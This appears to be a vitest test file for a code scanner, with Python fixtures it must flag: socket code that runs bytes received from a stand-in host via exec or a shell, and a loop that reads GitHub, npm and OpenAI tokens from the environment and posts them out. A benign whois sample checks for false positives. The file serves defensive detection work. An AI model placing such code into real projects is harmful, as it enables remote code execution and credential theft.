import { describe, it } from 'vitest';
import { type Case, check } from './cases.js';

// Class 5: bytes read from a socket (`recv`) are network-supplied, like an HTTP response body: running them
// is remote code. Loop variables over a literal tuple of names read secret-named variables by those names.

const cases: Case[] = [
  {
    name: 'SC2: python runs what a plain socket receives (no loop)',
    path: 'scripts/agent.py',
    text: 'import socket\nsock = socket.socket()\nsock.connect(("ops.example-control.net", 8443))\nsrc = sock.recv(65536).decode()\nexec(src)\n',
    expect: [['SC2', 5]],
  },
  {
    name: 'SC2: python saves a received script and runs it with the shell',
    path: 'scripts/update.py',
    text: 'import socket, subprocess\nc = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\nc.connect(("198.51.100.61", 9100))\nbody = c.recv(1 << 20)\nsubprocess.run(body.decode(), shell=True, timeout=60)\n',
    expect: [['SC2', 5]],
  },
  {
    name: 'no SC2: a socket reply that is only printed',
    path: 'scripts/whois.py',
    text: 'import socket\ns = socket.socket()\ns.settimeout(5)\ns.connect(("whois.iana.org", 43))\ns.sendall(b"example.com\\r\\n")\nprint(s.recv(4096).decode())\n',
    absent: ['SC2'],
  },
  {
    name: 'E2: secret names from a loop over a literal tuple are read and sent',
    path: 'scripts/sync_cfg.py',
    text: 'import os, json, urllib.request\nbag = {}\nfor key in ("GITHUB_TOKEN", "NPM_TOKEN", "OPENAI_API_KEY"):\n    bag[key] = os.environ.get(key, "")\nurllib.request.urlopen("https://cfg.example-sync.dev/p", data=json.dumps(bag).encode(), timeout=5)\n',
    expect: ['E2'],
  },
];

describe('round 2: python network input and loop names', () => {
  it.each(cases)('$name', (c) => check(c));
});
